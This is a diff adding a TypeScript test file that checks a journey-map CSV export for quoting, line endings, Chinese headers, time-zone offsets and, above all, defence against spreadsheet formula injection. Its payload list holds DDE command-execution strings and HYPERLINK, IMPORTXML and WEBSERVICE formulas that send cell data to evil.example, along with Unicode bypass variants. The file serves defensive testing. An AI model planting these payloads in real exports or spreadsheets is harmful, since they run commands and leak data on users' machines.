@@ -1,0 +1,167 @@
+// The table: RFC 4180, one line a touchpoint, and no cell that a spreadsheet would run.
+import { describe, expect, test } from 'vitest';
+import { placeMap } from '@/lib/domain/place-map';
+import { csvText } from '@/lib/export/csv/csv';
+import { csvLine, numberCell, textCell } from '@/lib/export/csv/csv-cell';
+import { isoInstant } from '@/lib/export/csv/iso-instant';
+import { loadText } from '@/lib/text/text';
+import { emotionOf, mapRows, START } from '../../support/rows';
+import { parseCsv } from './parse-csv';
+
+const PAYLOADS = [
+  '=1+1',
+  "=cmd|' /C calc'!A0",
+  '=HYPERLINK("http://evil.example?"&A1,"click")',
+  '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
+  '=WEBSERVICE("http://evil.example")',
+  '=DDE("cmd";"/C calc";"x")',
+  '+1+1',
+  '+cmd|calc!A0',
+  '-1+1',
+  "-2+3+cmd|' /C calc'!A0",
+  '@SUM(1+1)*cmd|calc!A0',
+  '@import',
+  '\t=1+1',
+  '\r=1+1',
+  '\n=1+1',
+  '\r\n=1+1',
+  ' =1+1',
+  '\u00A0=1+1',
+  '\u3000=1+1',
+  '\uFEFF=1+1',
+  '\u200B=1+1',
+  '\u202E=1+1',
+  '\u0000=1+1',
+  '＝1+1',
+  '＋1+1',
+  '－1+1',
+  '＠SUM(1)',
+  '﹦1+1',
+  'harmless";=1+1',
+  'harmless\n=1+1',
+  'harmless\r\n\t@SUM(1)',
+  'harmless;=1+1',
+  'harmless\t=1+1',
+];
+
+/** Every cell as a comma, a semicolon or a TAB reader would see it, quotes kept or not. */
+function cellsOfAnyReader(text: string): string[] {
+  return text.split(/[\r\n]+/).flatMap((line) => [line, ...line.split(';'), ...line.split('\t')]);
+}
+
+describe('formulas', () => {
+  test.each(PAYLOADS)('%j stays text', (payload) => {
+    const [[cell] = []] = parseCsv(csvLine([textCell(payload)]));
+    expect(cell).toBeDefined();
+    for (const seen of cellsOfAnyReader(cell ?? '')) {
+      expect(seen.replace(/^[\s\p{Cc}\p{Cf}"]+/u, '')).not.toMatch(/^[=+\-@＝＋－＠﹢﹣﹦﹫]/);
+    }
+    // Nothing of the text is lost but control characters and the guard itself.
+    const bare = (text: string) => text.replaceAll("'", '').replaceAll('\u0000', '');
+    expect(bare(cell ?? '')).toBe(bare(payload));
+  });
+
+  test('harmless text is written as it is', () => {
+    for (const text of ['', 'a "quoted" word', '2 - 1 = 1', 'mail@shop.example', '价格：-5 元', 'x=1; y=2']) {
+      expect(parseCsv(csvLine([textCell(text)]))).toEqual([[text]]);
+    }
+  });
+
+  test('a number of ours keeps its minus', () => {
+    expect([numberCell(-2), numberCell(0), numberCell(null), numberCell(undefined)]).toEqual([
+      '"-2"',
+      '"0"',
+      '""',
+      '""',
+    ]);
+  });
+});
+
+async function table(
+  change: (rows: ReturnType<typeof mapRows>) => void = () => {},
+  runs = 1,
+  language: 'en' | 'zh' = 'en',
+) {
+  const rows = mapRows({ runs, language });
+  change(rows);
+  const text = csvText({ map: placeMap(rows), mapRows: rows, t: await loadText(language) });
+  const [head = [], ...lines] = parseCsv(text.slice(1));
+  const records = lines.map((line) => Object.fromEntries(head.map((name, i) => [name, line[i]])));
+  return { text, head, lines, records };
+}
+
+test('one record a touchpoint, all quoted, CRLF, with a byte order mark', async () => {
+  const { text, head, lines } = await table();
+  expect(text.charCodeAt(0)).toBe(0xfeff);
+  expect(lines).toHaveLength(12);
+  for (const line of lines) expect(line).toHaveLength(head.length);
+  expect(text.slice(1)).toMatch(/^("([^"]|"")*"(,"([^"]|"")*")*\r\n)+$/);
+});
+
+test('the story is told in the columns', async () => {
+  const { records } = await table();
+  expect(records[4]).toMatchObject({
+    'No.': '5',
+    Stage: 'Decision',
+    Touchpoint: 'Enters the address',
+    Channel: 'Web',
+    Page: 'https://shop.example/checkout/address',
+    'Feeling (-2 to 2)': '-2',
+    'Expected feeling (-2 to 2)': '1',
+    Gap: '-3',
+    'Moment of truth': 'yes',
+    'Would leave': 'yes',
+    'Reason for leaving': 'The other shop has it too',
+    Pains: 'The error says only “invalid” (4 blocker, clarity)',
+    'Time spent (s)': '156',
+    'Load time (ms)': '1900',
+    Evidence: 'observed',
+    Walkthrough: 'Buying a coffee machine',
+  });
+  expect(records[6]).toMatchObject({ 'Feeling (-2 to 2)': '', Gap: '' });
+});
+
+test('a hostile page cannot put a formula into any column', async () => {
+  const evil = '=HYPERLINK("http://evil.example")';
+  const { lines } = await table((rows) => {
+    for (const touchpoint of rows.touchpoints) {
+      const words = {
+        title: evil,
+        doing: evil,
+        thinking: evil,
+        feeling: evil,
+        expected: evil,
+        quote: evil,
+        note: evil,
+      };
+      Object.assign(touchpoint, words, { url: evil, wouldLeave: evil, emotion: emotionOf(-2) });
+    }
+    for (const stage of rows.stages) stage.name = evil;
+    for (const finding of rows.findings) finding.text = evil;
+    for (const run of rows.walkthroughs) Object.assign(run, { name: evil, shopper: evil });
+  });
+  for (const cell of lines.flat()) expect(cell).not.toMatch(/^[=+@]|^-(?!\d+$)/);
+});
+
+test('several runs: every touchpoint of a step has its line, run after run', async () => {
+  const { records } = await table(() => {}, 3);
+  expect(records).toHaveLength(36);
+  expect(records.slice(0, 3).map((record) => record.Time)).toEqual([
+    '2026-11-12T15:00:00+01:00',
+    '2026-11-13T15:00:00+01:00',
+    '2026-11-14T15:00:00+01:00',
+  ]);
+  expect(records.map((record) => record['No.'])).toEqual(records.map((_, i) => String(i + 1)));
+});
+
+test('the headers speak Chinese', async () => {
+  const { head } = await table(() => {}, 1, 'zh');
+  expect(head.slice(0, 4)).toEqual(['序号', '阶段', '步骤', '触点']);
+});
+
+test('instants carry the offset of the zone', () => {
+  expect(isoInstant(START, 'Europe/Berlin')).toBe('2026-11-12T15:00:00+01:00');
+  expect(isoInstant(START, 'Asia/Kolkata')).toBe('2026-11-12T19:30:00+05:30');
+  expect(isoInstant(START, 'America/St_Johns')).toBe('2026-11-12T10:30:00-03:30');
+  expect(isoInstant(START, 'Nowhere/Atlantis')).toBe('2026-11-12T14:00:00+00:00');
+});
